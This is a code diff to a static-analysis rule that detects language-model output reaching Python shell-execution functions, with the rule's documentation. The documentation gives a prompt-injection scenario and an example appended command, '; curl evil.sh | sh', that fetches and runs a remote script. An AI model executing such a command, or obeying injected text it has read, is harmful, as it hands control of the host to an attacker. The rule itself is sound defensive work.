@@ -2,7 +2,7 @@ import type { SyntaxNode } from '../../engine/syntax';
 import { defineRule } from '../../engine/rule';
 import { flag, LLM_OUTPUT_WORDS } from '../helpers';
 import { flowTracker, type Sink } from './flow';
-import { llmOutput, OUTPUT_HANDLING } from './llm';
+import { llmOutput, OUTPUT_HANDLING, toolSummaries } from './llm';
 
 /** Functions that always hand their argument to a shell. */
 const SHELL = new Set(['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'commands.getoutput', 'asyncio.create_subprocess_shell', 'pty.spawn']);
@@ -27,6 +27,8 @@ export default defineRule({
 ## What it does
 Reports text from an LLM call (the same sources as [MLS501](MLS501.md)) reaching \`os.system\`, \`os.popen\`, \`subprocess.getoutput\`, \`asyncio.create_subprocess_shell\`, or \`subprocess.run\` / \`call\` / \`check_output\` / \`Popen\` with \`shell=True\`, as a string command, or as the program (first item) of an argument list.
 
+Tools' parameters and the file's own functions count as for [MLS501](MLS501.md): a helper that runs its parameter in a shell is reported where it is called with model output.
+
 ## Why is this bad?
 An agent that "suggests a command" and runs it obeys whoever wrote the text the model read: a README in the repository it explores, a web page, an e-mail. \`; curl evil.sh | sh\` appended by a prompt injection runs with the application's rights (OWASP LLM05 Improper Output Handling, LLM06 Excessive Agency).
 
@@ -49,7 +51,7 @@ If free-form commands are the product, run them in a disposable sandbox and ask 
 No fix.
 
 ## Known limitations
-As for [MLS501](MLS501.md): within one function or the top level. A model-written value passed as a later item of an argument list (an argument to a fixed program) is not reported; \`shlex.quote\` ends the flow.
+As for [MLS501](MLS501.md): within one file, the file's own functions one level deep. A model-written value passed as a later item of an argument list (an argument to a fixed program: \`["git", "commit", "-m", text]\`, \`["git"] + args\`) is not reported; \`shlex.quote\` ends the flow.
 
 ## References
 - [OWASP Top 10 for LLM Applications 2025: LLM05 Improper Output Handling](https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/)
@@ -58,6 +60,7 @@ As for [MLS501](MLS501.md): within one function or the top level. A model-writte
   create(ctx) {
     return flowTracker(ctx, {
       source: llmOutput(ctx),
+      summaries: toolSummaries(ctx),
       sinkTypes: ['call'],
       sinks(call) {
         const q = ctx.callee(call);
@@ -74,12 +77,14 @@ As for [MLS501](MLS501.md): within one function or the top level. A model-writte
         const shellFlag = flag(ctx, args, 'shell').state;
         const shell = SHELL.has(q) || shellFlag === 'true' || shellFlag === 'unknown';
         let args2: SyntaxNode[] = [arg];
-        if (!shell && (arg.type === 'list' || arg.type === 'tuple')) {
-          const items = arg.namedChildren.filter((c): c is SyntaxNode => !!c && c.type !== 'comment');
+        // `["git"] + args`: the list written first names the program.
+        const listed = arg.type === 'binary_operator' && ['list', 'tuple'].includes(arg.childForFieldName('left')?.type ?? '') && arg.childForFieldName('left')!.namedChildren.length ? arg.childForFieldName('left')! : arg;
+        if (!shell && (listed.type === 'list' || listed.type === 'tuple')) {
+          const items = listed.namedChildren.filter((c): c is SyntaxNode => !!c && c.type !== 'comment');
           const program = ctx.evaluate(items[0]);
           // A shell or an interpreter runs its arguments too (`["bash", "-c", text]`).
           const interpreter = (program.known && typeof program.value === 'string' && INTERPRETERS.test(program.value)) || ctx.qualifiedName(items[0] ?? null) === 'sys.executable';
-          args2 = interpreter ? items : items.slice(0, 1);
+          args2 = interpreter ? (listed === arg ? items : [...items, arg.childForFieldName('right')!]) : items.slice(0, 1);
         }
         if (!args2.length) return [];
         const sink: Sink = { at: fn, args: args2, requires: ['llm'], message: message(fn, shell ? 'a shell command written' : 'a program named') };
